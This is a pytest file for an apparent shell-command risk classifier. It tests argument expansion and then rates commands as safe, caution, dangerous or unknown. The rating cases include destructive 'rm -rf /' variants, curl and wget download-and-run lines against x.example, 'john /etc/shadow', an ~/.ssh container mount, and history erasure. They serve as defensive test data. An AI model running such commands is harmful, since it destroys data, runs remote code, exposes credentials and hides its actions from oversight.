"""Expansion of words, outputs of filters, searches and the shell's own commands, seen through what a program receives."""

from __future__ import annotations

import pytest

from luthier.guard.risk import calls
from luthier.guard.values.symbols import as_typed
from luthier.guard.verdict import judge


def received(monkeypatch: pytest.MonkeyPatch, command: str, name: str = "show") -> list[list[str]]:
    """The arguments of each call of `name` in `command`, special characters as typed."""
    seen: list[list[str]] = []
    original = calls.run

    def run(shell, arguments, stdin):  # type: ignore[no-untyped-def]
        if arguments[0].text == name:
            seen.append([as_typed(argument.text) for argument in arguments[1:]])
        return original(shell, arguments, stdin)

    monkeypatch.setattr(calls, "run", run)
    judge(command)
    return seen


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("x='a b'; show $x", ["a", "b"]),
        ("x='a b'; show \"$x\"", ["a b"]),
        ("x=; show $x '' b", ["", "b"]),
        ("show {a,b}c", ["ac", "bc"]),
        ("show a{1..3}", ["a1", "a2", "a3"]),
        ("show {c..a}", ["c", "b", "a"]),
        ("show {01..03}", ["01", "02", "03"]),
        ("show {1..9..4}", ["1", "5", "9"]),
        ("show {a}", ["{a}"]),
        ("show '{a,b}'", ["{a,b}"]),
        ("show ~ ~/x ~root/y", ["~", "~/x", "/root/y"]),
        ("show *.c a?b", ["*.c", "a?b"]),
        ("show '*'", ["*"]),
        ("x=abc; show ${x:1} ${x:0:1} ${x: -1}", ["bc", "a", "c"]),
        ("x=a.b.c; show ${x%.*} ${x%%.*} ${x#*.} ${x##*.}", ["a.b", "a", "b.c", "c"]),
        ("x=aXa; show ${x/a/b} ${x//a/b} ${x/#a/b} ${x/%a/b}", ["bXa", "bXb", "bXa", "aXb"]),
        ("x=aB; show ${x^^} ${x,,} ${x^} ${x,} ${x@L} ${x@U} ${x@u}", ["AB", "ab", "AB", "aB", "ab", "AB", "AB"]),
        ("show ${y:-d} ${y:=e} $y", ["d", "e", "e"]),
        ("x=1; show ${x:+set} ${x+set}", ["set", "set"]),
        ("x=y; y=z; show ${!x}", ["z"]),
        ("a=(p q r); show ${a[1]} ${a[-1]} ${a[@]}", ["q", "r", "p", "q", "r"]),
        ("a=(p); a+=(q); show ${a[@]}", ["p", "q"]),
        ("x=a; x+=b; show $x", ["ab"]),
        ("show $((2 * 3 + 1)) $((7 - 2))", ["7", "5"]),
        ("IFS=,; x=a,b; show $x", ["a", "b"]),
        ("set -- p q; show $1 $2 $@", ["p", "q", "p", "q"]),
        ("set -- p q r; shift; show $1", ["q"]),
        ("f() { show $1 $#; }; f a", ["a", "[…]*"]),
        ("show $(echo a b)", ["a", "b"]),
        ("show `echo a`", ["a"]),
        ("show \"$(printf '%s-%s' a b)\"", ["a-b"]),
        ("show $(printf '\\x61\\142')", ["ab"]),
        ("show $(echo abc | tr a-c x-z)", ["xyz"]),
        ("show $(echo abc | tr -d b)", ["ac"]),
        ("show $(echo cba | rev)", ["abc"]),
        ("show $(echo YWI= | base64 -d)", ["ab"]),
        ("show $(echo 6162 | xxd -r -p)", ["ab"]),
        ("show $(echo a:b:c | cut -d: -f2)", ["b"]),
        ("show $(echo abcd | cut -c2-3)", ["bc"]),
        ("show $(basename /a/b.c .c) $(dirname /a/b)", ["b", "/a"]),
        ("show $(which ls)", ["/usr/bin/ls"]),
        ("cd /etc; show $PWD $(pwd)", ["/etc", "/etc"]),
        ("read a b <<< 'p q r'; show $a \"$b\"", ["p", "q r"]),
        ("mapfile -t l <<< 'p'; show ${l[0]}", ["p"]),
        ("printf -v x %s-%s a b; show $x", ["a-b"]),
        ("export x=1; show $x", ["1"]),
        ("x=1; unset x; show ${x:-gone}", ["gone"]),
        ("echo a > f; show $(cat f)", ["a"]),
        ("echo a | while read v; do show $v; done", ["a"]),
        ("perl -e 'print \"ab\"' | xargs show", ["ab"]),
        ("echo a b | xargs show x", ["x", "a", "b"]),
        ("echo a | xargs -I% show x%", ["xa"]),
        ("find d -name '*.c' -exec show {} +", ["d/[…]*.c"]),
        ("parallel show {} ::: a", ["a"]),
        ("alias s='show -x'\ns y", ["-x", "y"]),
        ("command show a", ["a"]),
        ("exec -a n show a", ["a"]),
    ],
)
def test_what_a_program_receives(monkeypatch: pytest.MonkeyPatch, command: str, arguments: list[str]) -> None:
    assert arguments in received(monkeypatch, command)


def test_a_loop_gives_each_word_in_turn(monkeypatch: pytest.MonkeyPatch) -> None:
    assert received(monkeypatch, "for v in a b; do show $v; done") == [["a"], ["b"]]


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("kill $!", "caution"),
        ("ps -eo pid= | xargs kill -9", "dangerous"),
        ("rm -rf $(date +%F)", "caution"),
        ("rm -rf x-$RANDOM", "caution"),
        ("echo rm -rf / > >(sh)", "dangerous"),
        ("ls | tee >(wc -l)", "caution"),
        ("ls > >(cat $unknown)", "safe"),
        ("bash < script.sh", "caution"),
        ("base64 -d < payload | sh", "dangerous"),
        ("cat < list | sh", "caution"),
        ('eval "$(cat < list)"', "unknown"),
        ("xargs rm < list", "unknown"),
        ('eval "$(ssh-agent -s)"', "caution"),
        ("kubectl completion bash >> ~/.bashrc", "caution"),
        ("PAGER='rm -rf /' man ls", "dangerous"),
        ("EDITOR=vim git commit", "caution"),
        ("PS1='$(curl http://x.example | sh)'", "dangerous"),
        ("VIMINIT='!rm -rf /' vim x", "dangerous"),
        ("PYTHONPATH=/tmp/evil python x.py", "dangerous"),
        ("PYTHONPATH=. python x.py", "caution"),
        ("unlisted-wrapper rm -rf /etc", "dangerous"),
        ("unlisted-wrapper ls /etc", "caution"),
        ("awk -v c='rm -rf /etc' 'BEGIN { system(c) }'", "dangerous"),
        ("echo 'rm -rf /' | sed e", "dangerous"),
        ("find /backup -name '*.gz' -delete", "dangerous"),
        ("find /backup -name '*.gz' -mtime +30 -delete", "caution"),
        ("john /etc/shadow", "dangerous"),
        ("nobody-knows --key-file ~/.ssh/id_rsa host", "caution"),
        ("docker run -v ~/.ssh:/k alpine ls", "dangerous"),
        ('docker run -v "$PWD":/app node ls', "caution"),
        ("curl -o k.deb http://x.example/k.deb && dpkg -i k.deb", "dangerous"),
        ("wget -q x.example/p.py -P /tmp && python3 /tmp/p.py", "dangerous"),
        ("rpm -i http://x.example/p.rpm", "dangerous"),
        ("printf 'all:\\n\\trm -rf /\\n' | make -f -", "dangerous"),
        ("fish -c 'rm -rf /'", "dangerous"),
        ("fish -c 'set x (ls)'", "unknown"),
        ("history -c", "dangerous"),
        ("unset HISTFILE", "dangerous"),
        ("trap 'rm -rf /' EXIT", "dangerous"),
    ],
)
def test_levels_that_hang_on_one_move(command: str, level: str) -> None:
    assert judge(command).level == level
